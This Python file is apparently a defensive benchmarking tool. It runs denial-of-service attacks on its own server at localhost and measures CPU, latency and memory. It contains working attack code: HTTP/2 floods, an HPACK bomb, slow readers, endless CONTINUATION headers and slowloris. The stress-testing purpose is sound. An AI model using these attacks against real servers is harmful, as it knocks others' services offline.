"""Attacks on a running server over HTTP/2 (and slow ones over HTTP/1.1), and what they cost it.

Each attack sends as fast as it can, and connects again whenever it is cut. Meanwhile another client
asks for the list of models and for one token of a chat, each time on a new connection. Told are:
the slowest of its answers, the CPU time of the server's process, and how often it cut the attacker.
What the other client's questions cost is measured first, without an attack: "attack s" is the CPU
time less that, question by question.

    python -m tools.http2_attacks --port 8080 --seconds 5 [ATTACK …]
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import NamedTuple

import psutil

from hybridgen.server.reconnects import MEMORY_S
from tests.support.http_caller import get, post
from tools.http2_floods import CHAT, FLOODS, chat_body
from tools.http2_frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    SETTINGS,
    frame,
    head_block,
    settings,
)

NUM_SLOW = 200
_PIECE_BYTES = 64 * 1024
_PAUSE_S = 0.05


# --- sending ------------------------------------------------------------------------------------


class Flood:
    """Sends one attack over and over until told to stop.

    Args:
        port: of the server, on this machine.
        frames: what goes over one connection after its first frames.
        pause_s: between the end of a connection and the next.

    Attributes:
        num_bytes, num_connections: sent and opened so far.
    """

    def __init__(
        self, port: int, frames: Callable[[], Iterator[bytes]], pause_s: float = 0.0
    ) -> None:
        self._port = port
        self._frames = frames
        self._pause_s = pause_s
        self._is_over = threading.Event()
        self.num_bytes = 0
        self.num_connections = 0

    def run(self) -> None:
        """Attack; a connection that is cut is followed by the next."""
        while not self._is_over.wait(self._pause_s):
            self.num_connections += 1
            with (
                contextlib.suppress(OSError),
                socket.create_connection(("127.0.0.1", self._port)) as connection,
            ):
                connection.setblocking(False)
                self._send(connection)

    def stop(self) -> None:
        """Make ``run`` return."""
        self._is_over.set()

    def _send(self, connection: socket.socket) -> None:
        for piece in pieces(settings() + frame(SETTINGS, ACK, 0), self._frames()):
            rest = memoryview(piece)
            while rest:
                if not self._is_alive(connection):
                    return
                with contextlib.suppress(BlockingIOError):
                    num_sent = connection.send(rest)
                    self.num_bytes += num_sent
                    rest = rest[num_sent:]
        while self._is_alive(connection):
            pass

    def _is_alive(self, connection: socket.socket) -> bool:
        """Wait a moment for room to send, read what there is."""
        readable, _, _ = select.select([connection], [connection], [], _PAUSE_S)
        has_ended = readable and not connection.recv(1 << 20)
        return not (has_ended or self._is_over.is_set())


class HitAndRun(Flood):
    """Sends the start of a bomb, leaves without waiting for anything, and comes again."""

    def __init__(self, port: int) -> None:
        super().__init__(port, FLOODS["hpack_bomb"])
        self._bomb = settings() + b"".join(itertools.islice(FLOODS["hpack_bomb"](), 4))

    def _send(self, connection: socket.socket) -> None:
        self.num_bytes += connection.send(self._bomb)


def pieces(start: bytes, frames: Iterator[bytes]) -> Iterator[bytes]:
    """The same bytes in larger pieces; endless repetitions are joined once."""
    buffer = bytearray(start)
    last, num_same = b"", 0
    for one in frames:
        num_same = num_same + 1 if one is last else 0
        last = one
        buffer += one
        if len(buffer) >= _PIECE_BYTES:
            yield bytes(buffer)
            buffer.clear()
            if num_same * len(one) > 2 * _PIECE_BYTES:
                yield from itertools.repeat(one * (_PIECE_BYTES // len(one)))
    yield bytes(buffer)


class SlowReaders:
    """Clients that ask for long streams and never read them.

    Args:
        window: bytes that each lets the server send on a stream.
    """

    def __init__(self, port: int, window: int = 0) -> None:
        self._port = port
        self._window = window
        self._is_over = threading.Event()
        self.num_bytes = 0
        self.num_connections = 0

    def run(self) -> None:
        """Ask, then do nothing."""
        with contextlib.ExitStack() as open_sockets:
            body = chat_body(num_tokens=1800, stream=True)
            for _ in range(NUM_SLOW):
                connection = socket.create_connection(("127.0.0.1", self._port))
                open_sockets.enter_context(connection)
                self.num_connections += 1
                request = settings(window=self._window)
                request += frame(HEADERS, END_HEADERS, 1, head_block("POST", CHAT))
                request += frame(DATA, END_STREAM, 1, body)
                connection.sendall(request)
                self.num_bytes += len(request)
            self._is_over.wait()

    def stop(self) -> None:
        """Make ``run`` return."""
        self._is_over.set()


class Dripper:
    """Many connections whose request heads come byte by byte and never end.

    Args:
        start: what each sends at first.
        drop: what each sends again and again.
    """

    def __init__(self, port: int, start: bytes, drop: bytes) -> None:
        self._port = port
        self._start = start
        self._drop = drop
        self._is_over = threading.Event()
        self.num_bytes = 0
        self.num_connections = 0

    def run(self) -> None:
        """Drip; one that is cut connects again."""
        open_sockets: list[socket.socket] = []
        while not self._is_over.wait(_PAUSE_S):
            while len(open_sockets) < NUM_SLOW and not self._is_over.is_set():
                open_sockets.append(socket.create_connection(("127.0.0.1", self._port)))
                open_sockets[-1].sendall(self._start)
                self.num_connections += 1
            open_sockets = [one for one in open_sockets if self._drips(one)]
        for one in open_sockets:
            one.close()

    def stop(self) -> None:
        """Make ``run`` return."""
        self._is_over.set()

    def _drips(self, connection: socket.socket) -> bool:
        try:
            self.num_bytes += connection.send(self._drop)
        except OSError:
            connection.close()
            return False
        return True


def endless_headers(port: int) -> Dripper:
    """Over HTTP/2: a header block that goes on and on."""
    start = settings() + frame(HEADERS, END_STREAM, 1, head_block("GET", "/v1/models"))
    return Dripper(port, start, frame(CONTINUATION, 0, 1, b"\x82"))


def slowloris(port: int) -> Dripper:
    """Over HTTP/1.1: a header whose value goes on and on."""
    return Dripper(port, b"GET /v1/models HTTP/1.1\r\nhost: localhost\r\nx-long: ", b"a")


Attacker = Flood | SlowReaders | Dripper
OTHERS: dict[str, Callable[[int], Attacker]] = {
    "hit_and_run": HitAndRun,
    "slow_readers": SlowReaders,
    "never_reading": lambda port: SlowReaders(port, window=2**31 - 1),
    "endless_headers": endless_headers,
    "slowloris": slowloris,
}
NAMES = [*FLOODS, *OTHERS]


def attacker(name: str, port: int, pause_s: float = 0.0) -> Attacker:
    """The attack of that name on a server of this machine; ``pause_s`` before floods come again."""
    if name in FLOODS:
        return Flood(port, FLOODS[name], pause_s)
    return OTHERS[name](port)


# --- measuring ----------------------------------------------------------------------------------


class Damage(NamedTuple):
    """What an attack did."""

    cpu_s: float
    """CPU time of the server's process meanwhile."""
    slowest_s: float
    """The slowest answer to somebody else."""
    num_answers: int
    num_refused: int
    """Answers to somebody else that were no 200."""
    num_connections: int
    """Of the attacker; one more than it was cut."""
    sent_mb: float
    rss_mb: float
    """Memory of the server's process at the end."""

    def cpu_beyond(self, control: Damage) -> float:
        """CPU seconds less what as many answers cost in ``control``, a run without an attack."""
        return self.cpu_s - control.cpu_s * self.num_answers / control.num_answers


def measure(name: str, port: int, pid: int, seconds: float, pause_s: float = 0.0) -> Damage:
    """Run an attack for ``seconds`` on the server ``pid`` behind ``port``."""
    process = psutil.Process(pid)
    attack = attacker(name, port, pause_s)
    thread = threading.Thread(target=attack.run)
    before = process.cpu_times()
    thread.start()
    times, num_refused = [], 0
    ends_s = time.monotonic() + seconds
    try:
        while time.monotonic() < ends_s:
            started_s = time.monotonic()
            statuses = {get(port, "/v1/models").status, post(port, CHAT, chat_body(1)).status}
            num_refused += statuses != {200}
            times.append(time.monotonic() - started_s)
            time.sleep(_PAUSE_S)
        after = process.cpu_times()
        rss_mb = process.memory_info().rss / 1e6
    finally:
        attack.stop()
        thread.join()
    cpu_s = after.user + after.system - before.user - before.system
    slowest_s, num_sent = max(times), attack.num_bytes / 1e6
    return Damage(
        cpu_s, slowest_s, len(times), num_refused, attack.num_connections, num_sent, rss_mb
    )


def main() -> int:
    """Every attack, or those that are named, one after the other."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attacks", nargs="*", metavar="ATTACK", help=", ".join(NAMES))
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--pid", type=int, help="of the gateway; found by its port if left out")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--pause-s", type=float, default=0.0, help="before it connects again")
    parser.add_argument(
        "--rest-s", type=float, default=2 * MEMORY_S, help="for the server to forget the last one"
    )
    options = parser.parse_args()
    pid = options.pid or listener_of(options.port)
    head = f"{'attack':26}{'CPU s':>7}{'attack s':>10}{'slowest s':>11}{'answers':>9}{'refused':>9}"
    print(head + f"{'connections':>13}{'sent MB':>9}{'RSS MB':>8}")
    get(options.port, "/v1/models")  # the first question costs more
    control = measure("nothing", options.port, pid, options.seconds)
    show("nothing", control, control)
    for name in options.attacks or [name for name in NAMES if name != "nothing"]:
        time.sleep(options.rest_s)
        show(name, measure(name, options.port, pid, options.seconds, options.pause_s), control)
    return 0


def show(name: str, d: Damage, control: Damage) -> None:
    """One line."""
    line = f"{name:26}{d.cpu_s:7.2f}{d.cpu_beyond(control):10.2f}{d.slowest_s:11.3f}"
    line += f"{d.num_answers:9}{d.num_refused:9}"
    print(line + f"{d.num_connections:13}{d.sent_mb:9.1f}{d.rss_mb:8.0f}", flush=True)


def listener_of(port: int) -> int:
    """The process that listens on ``port``."""
    for connection in psutil.net_connections("tcp"):
        is_listening = connection.status == psutil.CONN_LISTEN and connection.pid
        if is_listening and connection.laddr.port == port:
            return int(connection.pid or 0)
    raise SystemExit(f"nobody listens on port {port}")


if __name__ == "__main__":
    sys.exit(main())
